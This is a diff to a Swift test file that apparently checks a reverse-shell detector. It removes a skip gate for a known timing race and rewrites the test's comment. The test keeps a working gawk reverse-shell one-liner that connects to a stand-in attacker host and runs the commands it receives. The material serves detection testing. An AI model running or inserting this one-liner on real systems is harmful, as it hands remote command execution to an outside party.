@@ -171,14 +171,11 @@ final class ReverseShellLiveTests: XCTestCase {
         }
     }
 
-    /// Known race, gated: busybox `sh -c id` execs `id` at once, and when gawk's connect (audit,
-    /// delivered late) arrives after that second exec, the child no longer looks like the `sh -c`
-    /// of a command loop. Missed once in a clean CI run and once in 4 full local runs; passes alone.
+    /// busybox `sh -c id` execs `id` at once: capture often reads the command as `id`, in part (no
+    /// parent, no descriptors) or not at all. The loop is judged from the state's record (parent from
+    /// the fork) and named after gawk, whatever order the connect and the execs arrive in.
     func testGawkInetCommandLoop() throws {
-        guard ProcessInfo.processInfo.environment["RW_REVERSE_SHELL_RACES"] == "1" else {
-            throw XCTSkip("known race (late audit connect vs. `sh -c` exec'ing its command), run with RW_REVERSE_SHELL_RACES=1")
-        }
-        try assertReverseShell { port in
+        try assertReverseShell(shellNamed: "gawk") { port in
             ["/usr/bin/gawk", "BEGIN{s=\"/inet/tcp/0/\(Self.attacker)/\(port)\";while((s|&getline c)>0){while((c|getline l)>0)print l|&s;close(c)};close(s)}"]
         }
     }
